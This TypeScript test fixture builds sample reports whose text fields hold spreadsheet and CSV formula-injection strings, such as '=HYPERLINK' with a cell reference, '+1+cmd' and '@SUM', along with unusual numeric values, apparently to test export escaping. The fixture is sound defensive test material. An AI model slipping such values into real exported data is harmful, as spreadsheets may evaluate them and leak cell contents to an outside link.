import type { Report } from '../../../schemas/report.ts'
import { field, smallReport } from './outgoing.ts'

/** Text that spreadsheets, XML or CSV may take for something else. */
export const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://example.org?"&A1,"look")',
  '+1+cmd',
  '-1+1',
  '@SUM(A1)',
  '\tTAB',
  '＝1',
  '\u0000=1+1',
  ' =1+1',
  "'quoted",
  "''twice",
  'a "quoted", word\nin two lines',
  '_x0041_',
  '<b>&amp;</b>',
  '  spaces  ',
]

/** Reports whose words are dangerous, and whose figures are unusual. */
export function hostileReports(): readonly Report[] {
  const words = HOSTILE.map((text, index) => {
    const about = { name: `${text.replaceAll('/', '_')} ${index}.pdf`, sha256: `${index}`.padStart(64, '0') }
    return smallReport(
      {
        'document.organization': field({ value: text, state: 'text', raw: text }),
        'requests.granted.total': field({
          value: text,
          state: 'text',
          raw: text,
          review: true,
          reasons: ['not-a-number'],
        }),
        'a form.of your.own': field({ value: text, state: 'text', raw: text }),
      },
      {
        source: { ...about, pages: 1, kind: 'text' },
        document: { kind: 'unknown', form: null, title: text },
      },
    )
  })
  const figures = smallReport(
    {
      'document.year': field({ value: 2021, state: 'number', raw: '二〇二一年' }),
      'art20_5.licences.change': field({ value: -12, state: 'number', raw: '-12' }),
      'art20_8.fees.amount': field({ value: -0.5, state: 'number', raw: '－0.5', unit: '万元' }),
      'requests.received.total': field({ value: 9007199254740991, state: 'number', raw: '9007199254740991' }),
      'requests.received.other': field({ value: 0, state: 'number', raw: '0' }),
      'requests.granted.total': field({ state: 'blank' }),
      'requests.granted.other': field({ state: 'dash', raw: '／' }),
      'requests.carriedIn.total': field({ state: 'unreadable', review: true, reasons: ['unreadable'] }),
      'requests.carriedIn.other': field({ state: 'missing', review: true, reasons: ['missing'] }),
      'visits.rooms.total': field({ value: 7, state: 'number', raw: '7' }),
      'visits.rooms.open': field({ state: 'blank' }),
    },
    { source: { name: 'figures.pdf', sha256: 'f'.repeat(64), pages: 1, kind: 'scan' } },
  )
  return [...words, figures]
}
